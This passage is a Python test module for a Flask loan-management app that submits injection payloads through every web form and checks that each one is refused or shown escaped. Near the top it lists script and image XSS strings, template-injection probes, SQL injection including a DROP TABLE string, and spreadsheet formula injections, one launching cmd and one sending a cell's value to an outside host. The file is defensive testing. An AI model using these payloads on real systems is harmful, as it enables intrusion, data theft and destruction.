"""Injection: script, template and SQL payloads in every field of every web form and of every
API body, and in every query parameter of every GET route; formulas in exported spreadsheets.

A payload is either refused with a message or stored, and a stored one comes back escaped on
the pages that show it; it never causes a 500, never appears raw in an HTML page, never widens
a search and never drops anything.

Escaping does not depend on the database, so on PostgreSQL only the payloads whose fate does
run: the NUL byte (PostgreSQL refuses it in text), the over-long text (PostgreSQL enforces
column lengths, SQLite stores anything) and the SQL quoting ones.
"""

from __future__ import annotations

import csv
import importlib
import inspect
import io
import itertools
import pkgutil
import re
import subprocess
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from datetime import date, timedelta
from typing import Any

import pytest
from flask import Flask
from flask_wtf import FlaskForm
from markupsafe import escape
from openpyxl import load_workbook
from sqlalchemy import func, select
from sqlalchemy import inspect as sa_inspect
from werkzeug.datastructures import FileStorage, ImmutableMultiDict
from wtforms import BooleanField
from wtforms.csrf.core import CSRFTokenField

import fundapp
from fundapp.admin.forms import ResetPasswordForm, UserForm
from fundapp.auth.forms import ChangePasswordForm, LoginForm
from fundapp.auth.models import ApiToken, User
from fundapp.auth.services import issue_token
from fundapp.banking import posting as bank_posting
from fundapp.banking import services as bank
from fundapp.banking.models import BankStatement
from fundapp.cooperatives.forms import CooperativeForm, RelatedGroupForm
from fundapp.cooperatives.models import Cooperative
from fundapp.cooperatives.services import create_group
from fundapp.documents import credit_file
from fundapp.domain.ranking import COMPLIANCE_CODES
from fundapp.extensions import db
from fundapp.imports.template import csv_bytes
from fundapp.ledger.forms import CapitalEntryForm
from fundapp.ledger.services import record_capital
from fundapp.lending import application_forms as af
from fundapp.lending import (
    applications,
    committee,
    contracts,
    disbursements,
    restructuring,
    writeoffs,
)
from fundapp.lending import forms as lf
from fundapp.lending.collateral import add_collateral
from fundapp.lending.uploads import clean_name, save_document
from fundapp.loans.days import Notice
from fundapp.loans.models import Application, ApplicationDocument, Disbursement, Loan, Repayment
from fundapp.loans.relief import InterestRelief, OffBalanceRemoval
from fundapp.planning import services as planning
from fundapp.planning.forms import PlanForm
from fundapp.policy import services as policy
from fundapp.policy.forms import PolicyChangeForm, PolicyDecisionForm
from fundapp.policy.services import install_defaults
from fundapp.portal import forms as pf
from fundapp.repayments import services as rs
from fundapp.servicing import relief as reliefs
from fundapp.servicing import risk
from fundapp.servicing.close_day import run_close_day
from fundapp.support import forms as sf
from fundapp.web import banking as bw
from fundapp.web import committee as cw
from fundapp.web import relief as rr
from fundapp.web.credit_file import TemplateForm
from fundapp.web.imports import ImportForm
from fundapp.web.imports import UploadForm as LoanFileForm
from fundapp.web.ranking import RankingForm
from tests.conftest import (
    BUSINESS_DATE,
    PASSWORD,
    PG_URL,
    fresh_database,
    login,
    make_app,
    make_cooperative,
    make_user,
)
from tests.services.lending_helpers import (
    SUPPORT_SCHEME,
    Staff,
    contracted_loan,
    disburse,
    support_with_claim,
)
from tests.services.test_bank_import import agribank_csv

# --- payloads ---------------------------------------------------------------------------------

SCRIPT = "<script>alert(1)</script>"
IMG = '"><img src=x onerror=alert(1)>'
JS_URL = "javascript:alert(1)"
SSTI = "{{7*7}}"
CONFIG = "{{config}}"
SQL_OR = "' OR '1'='1"
SQL_DROP = "'; DROP TABLE loans; --"
NUL = "nul\x00byte"
LONG = "<i>" + "x" * 9993 + "</i>"
assert len(LONG) == 10_000

# Cooperatives and projects named so from the start: they reach notices, documents, reports and
# spreadsheets, where a leading = + - @ would make a spreadsheet cell a formula.
FORMULAS = (
    '=HYPERLINK("http://x.example/?"&A1,"Xem")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
)
NAMES_IN_FILES = (SCRIPT, IMG, *FORMULAS)

EVERY_PAYLOAD = (SCRIPT, IMG, JS_URL, SSTI, CONFIG, SQL_OR, SQL_DROP, NUL, LONG)
# Escaping is the same on every database; what a database refuses or truncates is not.
PAYLOADS = (SQL_OR, SQL_DROP, NUL, LONG) if PG_URL else EVERY_PAYLOAD
ON_PG = "escaping does not depend on the database; SQLite runs this"

# Payloads with a character that escaping changes: seen as typed, they were not escaped.
MARKUP = (SCRIPT, IMG, SQL_OR, SQL_DROP, LONG[:40])
_JS_ATTRIBUTE = re.compile(r"""(?:href|src|action|formaction)\s*=\s*["']?\s*javascript:""", re.I)
# What ``{{config}}`` would print if a template evaluated it.
_CONFIG_SHOWN = ("testing-secret", "SQLALCHEMY_DATABASE_URI", "&lt;Config ")
_REFUSAL = ('class="field-error"', "flash flash-error", 'class="error-message"')
GOOD_PASSWORD = "Matkhau2027x"


def label(payload: str) -> str:
    names = {
        SCRIPT: "script", IMG: "img", JS_URL: "js-url", SSTI: "ssti", CONFIG: "config",
        SQL_OR: "sql-or", SQL_DROP: "sql-drop", NUL: "nul", LONG: "long",
    }  # fmt: skip
    return names.get(payload, payload[:20])


def shown_as(payload: str) -> str:
    """What a page shows of a stored payload: escaped (the long one by its start)."""
    return str(escape(payload[:40] if payload == LONG else payload))


def unsafe(body: str) -> list[str]:
    """The payloads that came back unescaped or evaluated in an HTML page."""
    found = [label(p) for p in MARKUP if p in body]
    if _JS_ATTRIBUTE.search(body):
        found.append("javascript: in a link")
    found += [f"config shown ({m})" for m in _CONFIG_SHOWN if m in body]
    return found


def is_html(response: Any) -> bool:
    return response.mimetype == "text/html"


def body_of(response: Any) -> str:
    return response.get_data(as_text=True)


_unique = itertools.count(1)


def unique() -> int:
    return next(_unique)


# --- the fund the payloads are thrown at --------------------------------------------------------

ROLES = ("officer", "appraiser", "accountant", "director", "board", "controller", "admin")


@dataclass
class World:
    app: Flask
    users: dict[str, User]
    web: dict[str, Any]
    api: dict[str, dict[str, str]]
    api_client: Any
    coop: Cooperative
    active: Loan
    contracted: Loan
    old: Loan
    own_draft: Application
    document: ApplicationDocument
    named: dict[str, Loan]
    # What the new features need: a collateral, a draft plan, an open committee meeting and
    # the wording of the contract as it was before any case changed it.
    extra: dict[str, Any] = field(default_factory=dict)

    @property
    def staff(self) -> Staff:
        u = self.users
        return Staff(u["officer"], u["appraiser"], u["accountant"], u["director"], u["board"])


PDF_BYTES = b"%PDF-1.4\n1 0 obj <</Type /Catalog>> endobj\ntrailer <</Root 1 0 R>>\n%%EOF\n"


def _application_data(coop: Cooperative, **over: Any) -> dict[str, Any]:
    data = {
        "cooperative_id": coop.id,
        "project_name": "Nhà sơ chế vải thiều",
        "purpose": "Mua máy sấy",
        "total_project_cost": 500_000_000,
        "own_equity": 200_000_000,
        "requested_amount": 240_000_000,
        "term_months": 12,
        "annual_rate": "6",
        "principal_method": "equal_principal",
    }
    return {**data, **over}


def new_application(world: World, stage: str = "draft", **over: Any) -> Application:
    """An application through the services, up to ``stage``, of a cooperative of its own (so
    that no borrower's limit fills up)."""
    u = world.users
    data = _application_data(make_cooperative(), **over)
    app = applications.create_application(u["officer"], data, BUSINESS_DATE)
    if stage in ("submitted", "appraised"):
        applications.submit(u["officer"], app)
    if stage == "appraised":
        amount = app.requested_amount
        applications.appraise(u["appraiser"], app, amount, "Phương án khả thi", BUSINESS_DATE)
    db.session.commit()
    return app


def own_draft(world: World) -> Application:
    return _draft_by(world.users["cooperative"], world.coop)


def _draft_by(member: User, coop: Cooperative) -> Application:
    """A draft the cooperative user wrote itself (the portal acts only on its own)."""
    data = _application_data(coop)
    data.pop("cooperative_id")
    data.pop("annual_rate")
    app = applications.create_application(member, data, BUSINESS_DATE)
    db.session.commit()
    return app


def approved_loan(world: World) -> Loan:
    app = new_application(world, "appraised")
    loan = applications.approve(world.users["director"], app, "Đồng ý", BUSINESS_DATE)
    db.session.commit()
    return loan


def over_limit_application(world: World) -> Application:
    """Above the single-borrower limit (15 % of 20 tỷ charter capital = 3 tỷ): the board may
    approve it only with an override reason."""
    return new_application(
        world,
        "appraised",
        total_project_cost=4_000_000_000,
        own_equity=800_000_000,
        requested_amount=3_200_000_000,
    )


def pending_disbursement(world: World) -> Any:
    d = disbursements.record_disbursement(
        world.users["accountant"],
        world.contracted.id,
        {"amount": 1_000_000, "date": BUSINESS_DATE},
        BUSINESS_DATE,
    )
    db.session.commit()
    return d


def pending_policy_change(world: World) -> Any:
    """A change of the due-soon notice proposed by another board member than the one who
    decides it (maker/checker), each from a later date than the last."""
    if "board_maker" not in world.users:
        world.users["board_maker"] = make_user("board", username="hdqldexuat")
    change = policy.propose(
        world.users["board_maker"],
        "due_soon_days",
        "10",
        BUSINESS_DATE + timedelta(days=unique()),
        "Quyết định số 17/QĐ-HĐQL",
        "Nhắc trả nợ sớm hơn",
        BUSINESS_DATE,
    )
    db.session.commit()
    return change


def relief_loan(world: World) -> Loan:
    """An active loan nothing was repaid on since January: interest due to waive."""
    loan = contracted_loan(world.staff, on=date(2026, 1, 10))
    disburse(world.staff, loan, loan.amount, date(2026, 1, 10))
    return loan


RELIEF = {"kind": "reduction", "reason_code": "unable_to_pay", "interest": 100_000,
          "reason": "Mất mùa vải thiều do rét đậm", "evidence": "Biên bản của UBND xã"}  # fmt: skip


def pending_relief(world: World) -> InterestRelief:
    """A reduction of 100.000 đ requested by the officer: within the director's authority."""
    loan = relief_loan(world)
    item = reliefs.request_relief(world.users["officer"], loan.id, dict(RELIEF), BUSINESS_DATE)
    db.session.commit()
    return item


def _refuser(model: Any, decide: Any, decider: str) -> Any:
    """After a case: a loan takes one pending request (``model``) at a time, so ``decider``
    turns the case's request down with ``decide``."""

    def refuse(world: World, loan: Loan, data: dict[str, Any]) -> None:
        db.session.expire_all()
        item = db.session.scalar(
            select(model).where(model.loan_id == loan.id, model.status == "pending")
        )
        decide(world.users[decider], item.id, False, "Chưa đủ hồ sơ", BUSINESS_DATE)
        db.session.commit()

    return refuse


_refuse_relief = _refuser(InterestRelief, reliefs.decide_relief, "director")


def written_off_loan(world: World) -> Loan:
    """A loan risk-handled on 01/03/2021: more than five years before the business date, so
    it may be removed from off-balance tracking."""
    handled = date(2021, 3, 1)
    loan = contracted_loan(world.staff, on=date(2020, 1, 6))
    disburse(world.staff, loan, loan.amount, date(2020, 1, 6))
    proposal = writeoffs.propose_write_off(world.users["director"], loan.id, "Mất vốn", handled)
    writeoffs.decide_write_off(world.users["board"], proposal.id, True, "Đồng ý xử lý", handled)
    db.session.commit()
    return loan


def pending_removal(world: World) -> OffBalanceRemoval:
    loan = written_off_loan(world)
    item = risk.propose_removal(
        world.users["director"], loan.id, "Hết thời hạn theo dõi", BUSINESS_DATE
    )
    db.session.commit()
    return item


_refuse_removal = _refuser(OffBalanceRemoval, risk.decide_removal, "board")


def _world(app: Flask) -> World:
    install_defaults()
    record_capital(None, "charter", 20_000_000_000, date(2020, 1, 1))
    db.session.commit()
    users = {role: make_user("officer" if role == "appraiser" else role) for role in ROLES}
    # Every role one person may hold together; the admin's and the controller's pages are
    # read by those users themselves.
    users["everyone"] = make_user("officer", "accountant", "director", "board", username="tatca")
    users["login"] = make_user("officer", username="dangnhap")
    users["password"] = make_user("officer", username="doimatkhau")
    users["password_api"] = make_user("officer", username="doimatkhauapi")
    users["token"] = make_user("officer", username="xinma")
    group = create_group(None, "Nhóm hộ gia đình Nguyễn")
    coop = make_cooperative(name="HTX Nông nghiệp Tân Sỏi", related_group_id=group.id)
    users["cooperative"] = make_user("cooperative", cooperative=coop)
    staff = Staff(
        users["officer"], users["appraiser"], users["accountant"], users["director"], users["board"]
    )
    active = contracted_loan(staff, on=date(2026, 1, 10), cooperative=coop)
    disburse(staff, active, active.amount, date(2026, 1, 10))
    rs.record_repayment(
        users["accountant"], active.id, {"amount": 5_000_000, "date": date(2026, 2, 10)},
        BUSINESS_DATE,
    )  # fmt: skip
    old = contracted_loan(staff, on=date(2025, 1, 6))
    disburse(staff, old, old.amount, date(2025, 1, 6))
    contracted = contracted_loan(staff, on=BUSINESS_DATE)
    named = {}
    for name in NAMES_IN_FILES:
        borrower = make_cooperative(name=name, sector=name[:100])
        loan = contracted_loan(staff, on=date(2026, 1, 12), cooperative=borrower, project_name=name)
        disburse(staff, loan, loan.amount, date(2026, 1, 12))
        named[name] = loan
    db.session.commit()
    run_close_day(BUSINESS_DATE, "cli")
    draft = _draft_by(users["cooperative"], coop)
    document = save_document(
        draft, FileStorage(io.BytesIO(PDF_BYTES), filename="giay-phep.pdf"), users["officer"]
    )
    db.session.commit()
    world = World(
        app, users, {}, {}, app.test_client(), coop, active, contracted, old, draft, document, named
    )
    world.extra = _new_features(users, active)
    for role, user in users.items():
        client = app.test_client()
        assert login(client, user).status_code == 302
        world.web[role] = client
        raw, _token = issue_token(user, 12, "kiểm thử")
        world.api[role] = {"Authorization": f"Bearer {raw}"}
    db.session.commit()
    return world


WORDING = "contract"  # the credit-file kind whose wording the cases change
MEETING_QUARTER = "2026-Q3"
RANKED_YEAR = BUSINESS_DATE.year - 1  # the year the director's self-assessment records


def _new_features(users: dict[str, User], loan: Loan) -> dict[str, Any]:
    """Through the services: a collateral and the contract issued on ``loan``, a draft plan
    for next year, and the committee's open meeting for 2026-Q3."""
    collateral = add_collateral(
        users["officer"], loan,
        {"kind": "Quyền sử dụng đất", "description": "Thửa đất số 12",
         "valuation": 300_000_000, "discount_factor": "0.5"},
    )  # fmt: skip
    db.session.flush()
    credit_file.issue(users["officer"], WORDING, loan)
    plan = planning.create(users["accountant"], BUSINESS_DATE.year + 1, {}, "Kế hoạch năm sau")
    # Last year's plan: its A/B/C self-assessment can be recorded.
    planning.create(users["accountant"], RANKED_YEAR, {}, "Kế hoạch năm trước")
    meeting = committee.open_meeting(
        users["board"], MEETING_QUARTER,
        committee.MeetingInput(date(2026, 10, 15), "Trụ sở Quỹ", "Nguyễn Văn An\nTrần Thị Bình"),
        BUSINESS_DATE,
    )  # fmt: skip
    # An interest support scheme with a claim filed to its paying agency.
    scheme, claim = support_with_claim(users["director"])
    db.session.commit()
    return {
        "collateral": collateral,
        "plan": plan,
        "meeting": meeting,
        "wording": credit_file.current_template(WORDING).body,
        "scheme": scheme,
        "claim": claim,
    }


SCHEME = SUPPORT_SCHEME
_scheme_codes = itertools.count(1)
# A day the payment of a claim cannot be recorded on: after the business date.
LATER = "31/12/2030"


def _scheme_url(world: World) -> str:
    return f"/support/{world.extra['scheme'].id}"


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    folder = tmp_path_factory.mktemp("injection")
    app = make_app(UPLOAD_FOLDER=str(folder / "uploads"), IMPORT_FOLDER=str(folder / "imports"))
    with fresh_database(app):
        yield _world(app)


# --- stored through the web forms ---------------------------------------------------------------


def _redirected(response: Any) -> bool:
    return response.status_code in (302, 303)


def _location(world: World, target: Any, data: dict[str, Any], response: Any) -> str:
    return response.location.split("#")[0]


def _today() -> str:
    return BUSINESS_DATE.strftime("%d/%m/%Y")


@dataclass(frozen=True)
class FormCase:
    """One form class (or some of its fields) submitted through its real route.

    ``valid`` fills every field with a value the route accepts; each field of ``fields`` in
    turn gets each payload. A file field gets the payload as the file's name."""

    form: type[FlaskForm]
    role: str
    url: Callable[[World, Any], str]
    valid: Callable[[World, Any], dict[str, Any]]
    fields: tuple[str, ...]
    prefix: Callable[[Any], str] = lambda target: ""
    target: Callable[[World], Any] | None = None
    used_up: bool = False  # an accepted submission uses its target up
    accepted: Callable[[Any], bool] = _redirected
    view: Callable[[World, Any, dict[str, Any], Any], str] = _location
    not_shown: dict[str, str] = field(default_factory=dict)  # field → why it is never shown
    files: dict[str, bytes] = field(default_factory=dict)  # file field → valid content
    also: dict[str, dict[str, Any]] = field(default_factory=dict)  # field → values it needs
    mirror: dict[str, str] = field(default_factory=dict)  # field → field that repeats it
    after: Callable[[World, Any, dict[str, Any]], None] | None = None
    must_refuse: bool = False
    refuses_all: bool = False  # no payload is a valid value of its fields
    client: Callable[[World], Any] | None = None  # a client of its own for each submission
    viewer: str = ""  # whose page shows the stored value, when not the submitter's
    batch: int = 10  # stored values looked for together (1: each replaces the previous)
    tag: str = ""

    @property
    def name(self) -> str:
        module = self.form.__module__.removeprefix("fundapp.").split(".")[0]
        return f"{module}.{self.form.__name__}{self.tag}"


def _check(response: Any, where: str) -> list[str]:
    response.get_data()  # buffered, so that the file behind a download can be closed
    response.close()
    problems = []
    if response.status_code >= 500:
        problems.append(f"{where}: answered {response.status_code}")
    if is_html(response):
        problems += [f"{where}: {bad}" for bad in unsafe(body_of(response))]
    return problems


def _refused_with_message(client: Any, response: Any) -> bool:
    if _redirected(response):
        response = client.get(response.location)
    body = body_of(response)
    return any(marker in body for marker in _REFUSAL)


def _expected(case: FormCase, name: str, payload: str, filename: str) -> str:
    return shown_as(clean_name(filename)) if name in case.files else shown_as(payload)


def _file_name(payload: str, content: bytes) -> str:
    return payload + (".pdf" if content.startswith(b"%PDF") else ".csv")


def _as_sent(name: str) -> str:
    """A file name as a browser sends it: quotes and line breaks percent-encoded (HTML's
    multipart/form-data encoding; Werkzeug's test client would send them bare)."""
    return name.replace('"', "%22").replace("\r", "%0D").replace("\n", "%0A")


def run_form_case(world: World, case: FormCase) -> list[str]:
    problems: list[str] = []
    waiting: dict[str, list[tuple[str, str]]] = {}
    looked = 0
    target = None
    for name in case.fields:
        for payload in PAYLOADS:
            if target is None and case.target is not None:
                target = case.target(world)
            data = {**case.valid(world, target), **case.also.get(name, {})}
            data[name] = payload
            if name in case.mirror:
                data[case.mirror[name]] = payload
            filename = ""
            for file_field, content in case.files.items():
                chosen = _file_name(payload if file_field == name else "giay-to", content)
                data[file_field] = (io.BytesIO(content), _as_sent(chosen))
                filename = chosen if file_field == name else filename
            prefix = case.prefix(target)
            form = {(f"{prefix}-{k}" if prefix else k): v for k, v in data.items()}
            where = f"{case.form.__name__}.{name} = {label(payload)}"
            client = case.client(world) if case.client else world.web[case.role]
            response = client.post(case.url(world, target), data=form)
            problems += _check(response, where)
            if response.status_code >= 500:
                db.session.rollback()
                continue
            if case.accepted(response):
                if case.must_refuse:
                    problems.append(f"{where}: accepted")
                if name not in case.not_shown:
                    url = case.view(world, target, data, response)
                    looked += 1
                    waiting.setdefault(url, []).append(
                        (where, _expected(case, name, payload, filename))
                    )
                    if len(waiting[url]) >= case.batch:
                        problems += _look(world, case, url, waiting.pop(url))
                if case.after is not None:
                    case.after(world, target, data)
                if case.used_up:
                    target = None
            elif not _refused_with_message(client, response):
                problems.append(f"{where}: refused without a message")
    for url, expected in waiting.items():
        problems += _look(world, case, url, expected)
    if set(case.fields) - set(case.not_shown) and not looked and not case.refuses_all:
        problems.append(f"{case.name}: no payload was stored, so none was looked for")
    return problems


def _look(world: World, case: FormCase, url: str, expected: list[tuple[str, str]]) -> list[str]:
    """The page showing the stored values: each one there, escaped, and nothing raw."""
    page = world.web[case.viewer or case.role].get(url)
    problems = _check(page, url)
    body = body_of(page)
    problems += [f"{where}: stored, not shown escaped on {url}" for where, text in expected
                 if text not in body]  # fmt: skip
    return problems


def _from_elsewhere(world: World) -> Any:
    """A browser of its own address, so that throttling never stops a payload early."""
    client = world.app.test_client()
    client.environ_base["REMOTE_ADDR"] = f"203.0.113.{unique() % 250 + 1}"
    return client


def _user_page(world: World, target: Any, data: dict[str, Any], response: Any) -> str:
    user_id = db.session.scalar(select(User.id).where(User.username == data["username"].lower()))
    return f"/admin/users/{user_id}"


def _application_page(world: World, target: Any, data: dict[str, Any], response: Any) -> str:
    return f"/applications/{target.id}"


def _loan_page(world: World, target: Any, data: dict[str, Any], response: Any) -> str:
    return f"/loans/{target.loan_id if hasattr(target, 'loan_id') else target.id}"


def _cancel_loan(world: World, app: Application, data: dict[str, Any]) -> None:
    """The override case approves 3,2 tỷ each time: cancelled, it no longer holds the cash."""
    db.session.expire_all()
    loan = db.session.scalar(select(Loan).where(Loan.application_id == app.id))
    contracts.cancel(world.users["director"], loan, "Kiểm thử")
    db.session.commit()


def _new_password(world: World, target: dict[str, str], data: dict[str, Any]) -> None:
    target["current"] = data["new_password"]


def _cooperative(world: World, target: Any) -> dict[str, Any]:
    n = unique()
    return {
        "name": f"HTX Kiểm thử {n}", "kind": "cooperative", "registration_no": f"KT{n:06d}",
        "tax_code": str(8_100_000_000 + n), "commune_code": "07525",
        "address": "Thôn Đồng Lạc", "sector": "Trồng vải thiều",
        "representative": "Nguyễn Văn An", "phone": "0912345678",
        "email": f"kt{n}@example.vn", "members_count": "12", "bank_account": "2100205123456",
        "bank_name": "Agribank Bắc Giang", "related_group_id": "",
    }  # fmt: skip


PROJECT = {
    "project_name": "Nhà sơ chế vải thiều", "purpose": "Mua máy sấy",
    "description": "Sơ chế và sấy vải thiều", "total_project_cost": "500.000.000",
    "own_equity": "200.000.000", "requested_amount": "240.000.000", "term_months": "12",
    "principal_method": "equal_principal", "principal_every_months": "1",
    "interest_every_months": "1", "grace_months": "0", "custom_schedule": "",
    "collateral_offered": "Quyền sử dụng đất",
}  # fmt: skip
PROJECT_FIELDS = tuple(PROJECT)
CUSTOM = {"custom_schedule": {"principal_method": "custom"}}
PLAN_LINES = {line.code: "300" if line.unit == planning.BASIS_POINTS else "1.000.000"
              for line in planning.LINES}  # fmt: skip
_plan_years = itertools.count(BUSINESS_DATE.year + 10)


def _plan(world: World, target: Any) -> dict[str, Any]:
    return {"year": str(world.extra["plan"].year), "note": "Theo nghị quyết", **PLAN_LINES}


def _meeting_url(world: World, target: Any = None, *rest: Any) -> str:
    return f"/committee/{world.extra['meeting'].id}"


MEETING = {"quarter": MEETING_QUARTER, "held_on": "15/10/2026", "place": "Trụ sở Quỹ",
           "members": "Nguyễn Văn An\nTrần Thị Bình",
           "minutes": "Xem xét đề nghị xử lý rủi ro"}  # fmt: skip


def _form_cases() -> list[FormCase]:
    pdf = {"file": PDF_BYTES}
    return [
        FormCase(
            LoginForm, "", lambda w, t: "/login",
            lambda w, t: {"username": w.users["login"].username, "password": PASSWORD},
            ("username", "password"), client=_from_elsewhere, must_refuse=True,
            not_shown={"username": "a failed login stores nothing", "password": "a password"},
        ),
        FormCase(
            ChangePasswordForm, "password", lambda w, t: "/account/password",
            lambda w, t: {"current_password": t["current"], "new_password": GOOD_PASSWORD,
                          "confirm": GOOD_PASSWORD},
            ("current_password", "new_password", "confirm"),
            target=lambda w: {"current": PASSWORD}, mirror={"new_password": "confirm"},
            after=_new_password,
            not_shown=dict.fromkeys(("current_password", "new_password", "confirm"), "password"),
        ),
        FormCase(
            UserForm, "admin", lambda w, t: "/admin/users/new",
            lambda w, t: {"username": f"kiemthu{unique()}", "full_name": "Trần Thị Bình",
                          "email": f"tb{unique()}@example.vn", "password": GOOD_PASSWORD,
                          "roles": "officer", "cooperative_id": "", "active": "y"},
            ("username", "full_name", "email", "password", "roles", "cooperative_id"),
            view=_user_page,
            not_shown={"password": "a password",
                       "cooperative_id": "anything but an id reads as no cooperative"},
        ),
        FormCase(
            ResetPasswordForm, "admin", lambda w, t: f"/admin/users/{t.id}/password",
            lambda w, t: {"new_password": GOOD_PASSWORD}, ("new_password",),
            target=lambda w: make_user("officer"), not_shown={"new_password": "a password"},
        ),
        FormCase(
            PolicyChangeForm, "board", lambda w, t: "/policy/late_interest_rate/change",
            lambda w, t: {
                "value": "10",
                "effective_from": (BUSINESS_DATE + timedelta(days=unique())).strftime("%d/%m/%Y"),
                "legal_reference": "Quyết định số 15/QĐ-HĐQL",
                "note": "Điều chỉnh theo quyết định",
            },
            ("value", "effective_from", "legal_reference", "note"),
        ),
        FormCase(
            PolicyDecisionForm, "board", lambda w, t: f"/policy/changes/{t.id}/reject",
            lambda w, t: {"note": "Chưa đủ căn cứ"}, ("note",),
            prefix=lambda t: f"chg{t.id}-reject", target=pending_policy_change, used_up=True,
        ),
        FormCase(
            CooperativeForm, "officer", lambda w, t: "/cooperatives/new", _cooperative,
            ("name", "kind", "registration_no", "tax_code", "commune_code",
             "address", "sector", "representative", "phone", "email", "members_count",
             "bank_account", "bank_name", "related_group_id"),
        ),
        FormCase(
            RelatedGroupForm, "officer", lambda w, t: "/cooperatives/groups/new",
            lambda w, t: {"name": f"Nhóm liên quan {unique()}", "note": "Cùng chủ sở hữu"},
            ("name", "note"),
        ),
        FormCase(
            CapitalEntryForm, "accountant", lambda w, t: "/capital/new",
            lambda w, t: {"source": "entrusted", "source_name": "Liên minh HTX Việt Nam",
                          "amount": "1.000.000", "entry_date": _today(),
                          "reference": f"UT-{unique()}", "note": "Vốn ủy thác đợt 2",
                          "origin_fund": ""},
            ("source", "source_name", "amount", "entry_date", "reference", "note",
             "origin_fund"),
        ),
        FormCase(
            LoanFileForm, "accountant", lambda w, t: "/imports/loans/check",
            lambda w, t: {}, ("file",), files={"file": csv_bytes()},
            accepted=lambda r: r.status_code == 200,
            view=lambda w, t, d, r: "/imports/loans",
            not_shown={"file": "the name is shown on the check page, tested there"},
        ),
        FormCase(
            LoanFileForm, "accountant", lambda w, t: "/imports/loans/check",
            lambda w, t: {"origin": ""}, ("origin",), files={"file": csv_bytes()},
            accepted=lambda r: r.status_code == 200, tag="[origin]",
            must_refuse=True, refuses_all=True,  # no payload is a registered fund's code
        ),
        FormCase(
            ImportForm, "accountant", lambda w, t: "/imports/loans/run",
            lambda w, t: {"token": "0" * 32 + ".csv"}, ("token",), must_refuse=True,
            accepted=lambda r: _redirected(r) and r.location.endswith("/loans/"),
            not_shown={"token": "a file token is never shown"},
        ),
        FormCase(
            af.ApplicationForm, "officer", lambda w, t: "/applications/new",
            lambda w, t: {**PROJECT, "cooperative_id": str(w.coop.id), "annual_rate": "6"},
            ("cooperative_id", *PROJECT_FIELDS, "annual_rate"), also=CUSTOM,
        ),
        FormCase(
            af.WithdrawForm, "officer", lambda w, t: f"/applications/{t.id}/withdraw",
            lambda w, t: {"reason": "HTX xin rút"}, ("reason",),
            target=new_application, used_up=True,
        ),
        FormCase(
            af.AppraiseForm, "appraiser", lambda w, t: f"/applications/{t.id}/appraise",
            lambda w, t: {"recommended_amount": "240.000.000", "note": "Khả thi"},
            ("recommended_amount", "note"),
            target=lambda w: new_application(w, "submitted"), used_up=True,
        ),
        FormCase(
            af.ApproveForm, "director", lambda w, t: f"/applications/{t.id}/approve",
            lambda w, t: {"note": "Đồng ý", "override_reason": ""}, ("note",), tag="[note]",
            target=lambda w: new_application(w, "appraised"), used_up=True,
            view=_application_page,
        ),
        FormCase(
            af.ApproveForm, "board", lambda w, t: f"/applications/{t.id}/approve",
            lambda w, t: {"note": "Đồng ý", "override_reason": "Dự án trọng điểm"},
            ("override_reason",), target=over_limit_application, used_up=True, tag="[override]",
            view=_application_page, after=_cancel_loan,
        ),
        FormCase(
            af.RejectForm, "director", lambda w, t: f"/applications/{t.id}/reject",
            lambda w, t: {"reason": "Chưa đủ hồ sơ"}, ("reason",),
            target=lambda w: new_application(w, "appraised"), used_up=True,
        ),
        FormCase(
            af.UploadForm, "officer", lambda w, t: f"/applications/{t.id}/documents",
            lambda w, t: {}, ("file",), files=pdf, target=new_application,
            view=_application_page,
        ),
        FormCase(
            lf.NoteForm, "director",
            lambda w, t: f"/loans/{t.loan_id}/disbursements/{t.id}/reject",
            lambda w, t: {"note": "Sai số tài khoản"}, ("note",),
            prefix=lambda t: f"disb{t.id}-reject", target=pending_disbursement, used_up=True,
            view=_loan_page, viewer="controller",  # the loan's audit log shows the note
        ),
        FormCase(
            lf.ReasonForm, "director", lambda w, t: f"/loans/{t.id}/cancel",
            lambda w, t: {"reason": "HTX không nhận vốn"}, ("reason",),
            prefix=lambda t: "cancel", target=approved_loan, used_up=True,
        ),
        FormCase(
            lf.ContractForm, "officer", lambda w, t: f"/loans/{t.id}/contract",
            lambda w, t: {"contract_date": _today(), "repayment_order": "standard"},
            ("contract_date", "repayment_order"), refuses_all=True,
            prefix=lambda t: "contract", target=approved_loan, used_up=True,
        ),
        FormCase(
            lf.DisbursementForm, "accountant",
            lambda w, t: f"/loans/{w.contracted.id}/disbursements",
            lambda w, t: {"amount": "1.000.000", "date": _today(), "reference": "UNC-01"},
            ("amount", "date", "reference"), prefix=lambda t: "disburse",
        ),
        FormCase(
            lf.RepaymentForm, "accountant", lambda w, t: f"/loans/{w.active.id}/repayments",
            lambda w, t: {"amount": "100.000", "date": _today(), "method": "bank",
                          "reference": "GBC-01"},
            ("amount", "date", "method", "reference"), prefix=lambda t: "repay",
        ),
        FormCase(
            lf.RestructuringForm, "officer", lambda w, t: f"/loans/{w.active.id}/restructurings",
            lambda w, t: {"kind": "extension", "effective_date": _today(),
                          "new_maturity": "10/07/2027", "principal_plan": "",
                          "reason": "Mất mùa do rét đậm"},
            ("kind", "effective_date", "new_maturity", "principal_plan", "reason"),
            prefix=lambda t: "restructure",
        ),
        FormCase(
            lf.CollateralForm, "officer", lambda w, t: f"/loans/{w.active.id}/collateral",
            lambda w, t: {"kind": "Quyền sử dụng đất", "description": "Thửa đất số 12",
                          "valuation": "300.000.000", "discount_factor": "0,5"},
            ("kind", "description", "valuation", "discount_factor"),
            prefix=lambda t: "collateral",
        ),
        FormCase(
            lf.InspectionForm, "officer", lambda w, t: f"/loans/{w.active.id}/inspections",
            lambda w, t: {"inspected_on": _today(), "finding": "proper",
                          "notes": "Đã mua máy sấy"},
            ("inspected_on", "finding", "notes"), prefix=lambda t: "inspection",
        ),
        FormCase(
            rr.ReliefForm, "officer", lambda w, t: f"/loans/{t.id}/relief",
            lambda w, t: {**RELIEF, "interest": "100.000", "penalty": ""},
            ("kind", "reason_code", "interest", "penalty", "reason", "evidence"),
            prefix=lambda t: "relief", target=relief_loan, after=_refuse_relief,
        ),
        FormCase(
            rr.NoteForm, "director", lambda w, t: f"/interest-reliefs/{t.id}/approve",
            lambda w, t: {"note": "Đồng ý miễn, giảm"}, ("note",), tag="[relief]",
            prefix=lambda t: "decide", target=pending_relief, used_up=True,
            view=lambda w, t, d, r: "/audit/?entity=interest_relief",
            viewer="controller",  # the audit log shows the note
        ),
        FormCase(
